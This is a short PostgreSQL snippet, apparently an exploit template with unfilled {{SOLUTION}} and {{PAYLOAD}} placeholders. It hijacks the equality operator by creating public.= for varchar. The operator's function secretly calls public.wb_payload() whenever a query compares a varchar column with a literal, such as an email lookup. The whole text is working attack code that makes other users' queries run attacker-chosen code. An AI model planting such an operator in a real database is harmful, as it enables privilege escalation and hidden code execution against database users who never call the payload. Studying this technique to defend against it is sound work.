-- Route: an operator in public. email = 'alice@example.com' compares varchar with an unknown literal,
-- and public.=(varchar, varchar) matches exactly where pg_catalog only has text = text.
{{SOLUTION}}
{{PAYLOAD}}
CREATE FUNCTION public.wb_eq(a varchar, b varchar) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.wb_payload();
    RETURN a::text OPERATOR(pg_catalog.=) b::text;
END
$$;
CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.wb_eq);
